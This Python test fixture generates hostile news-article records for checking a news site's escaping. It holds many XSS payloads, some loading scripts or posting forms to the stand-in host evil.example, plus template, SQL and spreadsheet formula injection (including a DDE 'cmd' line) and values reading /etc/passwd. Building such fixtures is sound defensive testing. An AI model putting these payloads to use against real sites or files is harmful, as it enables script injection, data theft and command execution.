"""Hostile articles: what strangers may put into titles, bodies, addresses, outlets, tags and bylines. All words are our own."""

from __future__ import annotations

import json
from typing import Any

SECRET = "kawatxss"
"""Every payload that would run names this; no page may have it outside a text or a quoted attribute."""

_SCRIPTS = (
    f"<script>{SECRET}()</script>",
    f"<ScRiPt src=//evil.example/{SECRET}.js></ScRiPt>",
    f"</script><script>{SECRET}()</script>",
    f"</title><script>{SECRET}()</script>",
    f"</textarea><script>{SECRET}()</script>",
    f"--><script>{SECRET}()</script><!--",
    f"]]><script>{SECRET}()</script>",
    f"<scr<script>ipt>{SECRET}()</scr</script>ipt>",
    f"<script\x0b>{SECRET}()</script\x0b>",
    f"<noscript><p title='</noscript><img src=x onerror={SECRET}()>'>",
)
_HANDLERS = (
    f"<img src=x onerror={SECRET}()>",
    f"<svg onload={SECRET}()>",
    f"<svg><animate onbegin={SECRET}() attributeName=x dur=1s>",
    f"<svg><script>{SECRET}()</script></svg>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={SECRET}()>",
    f"<body onload={SECRET}()>",
    f"<details open ontoggle={SECRET}()>",
    f"<input autofocus onfocus={SECRET}()>",
    f"<marquee onstart={SECRET}()>",
    f"<video><source onerror={SECRET}()></video>",
    f"<iframe srcdoc='<script>{SECRET}()</script>'></iframe>",
    f"<iframe src=javascript:{SECRET}()></iframe>",
    f"<object data=javascript:{SECRET}()></object>",
    f"<embed src=javascript:{SECRET}()>",
    f"<base href=//evil.example/{SECRET}/>",
    f"<meta http-equiv=refresh content='0;url=javascript:{SECRET}()'>",
    f"<link rel=stylesheet href=//evil.example/{SECRET}.css>",
    f"<style>*{{background:url(//evil.example/{SECRET})}}</style>",
    f"<form action=//evil.example/{SECRET}><button>Kirim</button></form>",
    f"<a href=javascript:{SECRET}()>baca</a>",
    f"<kawat-chart data-points={SECRET} onclick={SECRET}()></kawat-chart>",
)
_QUOTES = (
    f'" onmouseover="{SECRET}()',
    f"' onmouseover='{SECRET}()",
    f'"><img src=x onerror={SECRET}()>',
    f"'><svg/onload={SECRET}()>",
    f"` onclick={SECRET}() `",
    f'" autofocus onfocus={SECRET}() x="',
    f'" style="background:url(//evil.example/{SECRET})',
    f"&quot; onmouseover=&quot;{SECRET}()",
    f"&lt;script&gt;{SECRET}()&lt;/script&gt;",
    f"&#60;script&#62;{SECRET}()&#60;/script&#62;",
    f"&amp;lt;img src=x onerror={SECRET}()&amp;gt;",
    f"\\u003cscript\\u003e{SECRET}()\\u003c/script\\u003e",
    f"+ADw-script+AD4-{SECRET}()+ADw-/script+AD4-",
    f"＜script＞{SECRET}()＜/script＞",
)
_TEMPLATES = (
    "{{7*7}}", "{% raw %}{{ 7*7 }}{% endraw %}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "{{config.items()}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}", "{0.__class__}", "%(x)s %s %n", "$(id)", "`id`",
)  # fmt: skip
_SQL = (
    "'; DROP TABLE claims; --", "' OR '1'='1", "\" UNION SELECT * FROM documents --", "%' ESCAPE '!", "?; ATTACH '/etc/passwd'",
    "$name ? :name",
)  # fmt: skip
_FORMULAS = (
    "=1+1", "=HYPERLINK(\"http://evil.example\",\"klik\")", "+1+1", "-1+1", "@SUM(1,1)", "\t=1+1", "\r=1+1",
    "=cmd|' /C calc'!A0",
)  # fmt: skip
_SIGNS = (
    "\u202egnp.exe\u202c", "\u2066Rusia\u2069\u2067", "nol\x00byte", "\ud83d separuh", "separuh \udc00 lagi", "\ufeffBOM",
    "\u2028baris\u2029", "\x1b[31mmerah\x1b[0m", "\x08\x7f", "a" * 5_000, "\u0301" * 400, "🇮🇩" * 200,
)  # fmt: skip
PAYLOADS: tuple[str, ...] = (*_SCRIPTS, *_HANDLERS, *_QUOTES, *_TEMPLATES, *_SQL, *_FORMULAS, *_SIGNS)
URLS = (
    f"javascript:{SECRET}()", f"JaVaScRiPt:{SECRET}()", f" javascript:{SECRET}()", f"java\tscript:{SECRET}()",
    f"\x01javascript:{SECRET}()", f"data:text/html,<script>{SECRET}()</script>", f"data:text/html;base64,{SECRET}",
    f"vbscript:{SECRET}()", f"//evil.example/{SECRET}", f"https://kabar.example/\"onmouseover=\"{SECRET}()",
    f"https://kabar.example/'><script>{SECRET}()</script>", "file:///etc/passwd", f"blob:{SECRET}", f"view-source:{SECRET}",
    f"https://kabar.example@evil.example/{SECRET}", "http://[::1", f"https://kabar.example/{SECRET}?a=1&b=<b>",
    f"javascript://kabar.example/%0a{SECRET}()", f"https:javascript:{SECRET}()", "=HYPERLINK(\"x\")",
)  # fmt: skip
ACTS = (
    "Rusia mengecam Ukraina pada Senin.", "Amerika Serikat menyerang Iran.", "Jepang membantu Vanuatu.",
    "\"Kami menolak,\" kata Menteri Luar Negeri Rusia Sergei Lavrov.", "China condemned Japan on Monday.",
)  # fmt: skip


def articles() -> list[dict[str, Any]]:
    """One article for each payload, in every field that an article has; each has acts too, so that it shows in all pages."""
    out = []
    for number, bad in enumerate(PAYLOADS):
        url = URLS[number] if number < len(URLS) else f"https://kabar.example/{number}?q={bad[:200]}"
        act = ACTS[number % len(ACTS)]
        out.append(
            {
                "url": url, "title": f"{bad} {act}", "outlet": f"{bad[:300]} Kabar", "byline": bad, "editor": bad, "place": bad,
                "tags": [bad, "Rusia"], "caption": f"{act} {bad}", "credit": bad, "published": f"2024-03-{number % 28 + 1:02d}",
                "language": "en" if act.startswith("China") else "id", "text": f"{act} {bad}\n\n{bad} {act}\n\n{act}",
            }
        )  # fmt: skip
    return out


def lines() -> bytes:
    """The articles as JSON lines; halves of character pairs are written as escapes, as a careless exporter does."""
    return b"".join(json.dumps(one).encode("ascii") + b"\n" for one in articles())
